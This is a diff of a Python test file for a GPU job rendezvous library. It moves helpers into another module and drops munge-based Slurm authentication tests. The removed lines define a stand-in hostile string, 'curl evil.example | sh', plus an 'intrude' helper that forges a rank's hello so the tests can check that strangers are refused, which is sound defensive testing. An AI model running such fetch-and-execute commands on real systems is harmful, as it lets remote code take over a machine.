@@ -3,10 +3,8 @@
 from __future__ import annotations
 
 import os
-import shutil
 import socket
 import stat
-import subprocess
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
@@ -15,81 +13,11 @@ import pytest
 
 from gpuready import rollcall
 from gpuready.cluster import Rendezvous
-from gpuready.rollcall import beacon, client, endpoint, job_secret, munge, store_rollcall, wire
+from gpuready.rollcall import beacon, client, endpoint, job_secret, store_rollcall, wire
 from gpuready.rollcall.hello import Hello, make_hello
 from gpuready.rollcall.rank_register import RankRegister
 from tests.ranks import free_port
-
-EVIL = "curl evil.example | sh"
-ONE_HOST = {"local_world_size": 2, "nodes": 1}
-TWO_HOSTS = {"local_world_size": 1, "nodes": 2}
-
-
-class Job:
-    """Rank 0 and rank 1 of a job in threads of this process."""
-
-    def __init__(self, token: str = "", window: float = 60.0, **more) -> None:
-        self.window, self.token, self.answers, self.running = window, token, {}, {}
-        where = {"address": "127.0.0.1", "port": free_port(), "run_id": "job-7"} | ONE_HOST | more
-        self.ranks = [Rendezvous(rank, 2, 0, **where) for rank in range(2)]
-        self.port = where["port"]
-
-    def start(self, rank: int) -> None:
-        self.running[rank] = threading.Thread(target=self._attend, args=(rank,))
-        self.running[rank].start()
-
-    def _attend(self, rank: int) -> None:
-        hello = make_hello(self.ranks[rank], {}, machine=f"m{rank}")
-        try:
-            found = rollcall.attend_rollcall(self.ranks[rank], hello, window=self.window, token=self.token)
-            self.answers[rank] = found
-            if found.listener is not None:
-                found.listener.close()
-        except rollcall.RollcallRefused as no:
-            self.answers[rank] = str(no)
-
-    def end(self) -> dict:
-        for thread in self.running.values():
-            thread.join()
-        return self.answers
-
-
-def greet(port: int, seconds: float = 60.0) -> tuple[socket.socket, dict]:
-    """Connect to rank 0 as anybody can, as soon as it listens."""
-    end = time.monotonic() + seconds
-    while time.monotonic() < end:
-        try:
-            conn = socket.create_connection(("127.0.0.1", port), 1)
-            return conn, client.exchange_greeting(conn, 60.0)
-        except OSError:
-            time.sleep(0.02)
-    raise AssertionError("rank 0 does not listen")
-
-
-def intrude(port: int, token: str = "", **more) -> bytes:
-    """Send rank 0 a hello as rank 1; return what it answers."""
-    conn, greeting = greet(port)
-    with conn:
-        hello = Hello(**{"rank": 1, "world_size": 2, "host": "evil", "pid": 1, "run_id": "job-7"} | more)
-        conn.sendall(wire.encode_message(hello.to_json(), token, greeting["salt"]))
-        conn.settimeout(60)
-        return b"".join(iter(lambda: conn.recv(1 << 16), b""))
-
-
-def gone(answers: dict) -> bool:
-    return all(isinstance(answers[rank], rollcall.Attendance) for rank in range(2))
-
-
-@pytest.fixture
-def other_hosts(monkeypatch, tmp_path):
-    """The ranks are on different hosts: no beacon of the other is here, and its address is not ours."""
-    monkeypatch.setattr(beacon, "find_beacon", lambda name: "")
-    monkeypatch.setattr(endpoint, "is_local_address", lambda address: False)
-    monkeypatch.setattr(rollcall, "_check_master_address", lambda rendezvous, hello, resolved: (hello, None))
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("HOME", str(tmp_path))
-    return tmp_path
-
+from tests.rollcall.strangers import EVIL, TWO_HOSTS, Job, gone, greet, intrude
 
 # -- on one host, without a word from the user --------------------------------------------------------
 
@@ -393,61 +321,3 @@ def test_a_name_that_another_took_gives_no_word(monkeypatch):
     with beacon._bind_abstract_socket(f"gpuready-word-{beacon._job_key(job)}"):
         monkeypatch.setattr(beacon, "is_own_user", lambda conn: False)
         assert beacon.share_word(job, "ours", 0.2) == ""
-
-
-# -- munge, on the nodes of a Slurm cluster -----------------------------------------------------------
-
-
-@pytest.fixture
-def munge_daemon(tmp_path, monkeypatch):
-    """A real munged with a key of its own, and its two programs first on PATH."""
-    if os.geteuid() != 0 or not all(map(shutil.which, ("munge", "unmunge"))):
-        pytest.skip("NO munge: install munge, and run as root")
-    folder = tmp_path / "munge"
-    (folder / "bin").mkdir(parents=True)
-    (folder / "key").write_bytes(os.urandom(128))
-    (folder / "key").chmod(0o400)
-    for name in ("munge", "unmunge"):
-        script = folder / "bin" / name
-        script.write_text(f'#!/bin/sh\nexec {shutil.which(name)} --socket={folder}/socket "$@"\n')
-        script.chmod(0o755)
-    for path in (folder, *folder.parents[:3]):
-        path.chmod(0o755)
-    files = [f"--{what}-file={folder}/{what}" for what in ("key", "pid", "log", "seed")]
-    words = ["/usr/sbin/munged", "--foreground", "--force", f"--socket={folder}/socket", *files]
-    with subprocess.Popen(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as daemon:
-        while not (folder / "socket").exists():
-            assert daemon.poll() is None
-            time.sleep(0.01)
-        monkeypatch.setenv("PATH", f"{folder}/bin:{os.environ['PATH']}")
-        monkeypatch.setenv("SLURM_JOB_ID", "7")
-        yield folder / "bin"
-        daemon.terminate()
-
-
-def test_on_a_slurm_cluster_munge_vouches_for_the_ranks(munge_daemon, other_hosts):
-    job = Job(**TWO_HOSTS)
-    job.start(0)
-    assert b'"elsewhere":"secret"' in intrude(job.port)
-    job.start(1)
-    answers = job.end()
-    assert gone(answers), answers
-    assert job_secret.OPEN_NOTE not in answers[0].notes and not list(other_hosts.glob(".gpuready*"))
-
-
-def test_munge_tells_the_token_to_its_user_alone(munge_daemon):
-    credential = munge.encode_for_own_user("token")
-    assert [munge.decode_from_own_user(credential) for _ in range(3)] == ["token"] * 3, "every rank of a node"
-    stranger = subprocess.run([munge_daemon / "unmunge"], input=credential.encode(), capture_output=True, user=65534)
-    assert stranger.returncode and b"token" not in stranger.stdout
-    words = [munge_daemon / "munge"]
-    forged = subprocess.run(words, input=b"theirs", capture_output=True, user=65534).stdout.decode()
-    assert forged.startswith("MUNGE:") and munge.decode_from_own_user(forged.strip()) == ""
-    assert [munge.decode_from_own_user(odd) for odd in (None, 7, "", "MUNGE:rubbish:", credential[:-9])] == [""] * 5
-
-
-def test_a_cluster_without_munge_is_as_before(monkeypatch, other_hosts):
-    monkeypatch.setenv("SLURM_JOB_ID", "7")
-    monkeypatch.setenv("PATH", str(other_hosts))
-    secret = job_secret.hold_secret(Rendezvous(0, 2, 0, **TWO_HOSTS), "")
-    assert secret.is_open and not secret.credential
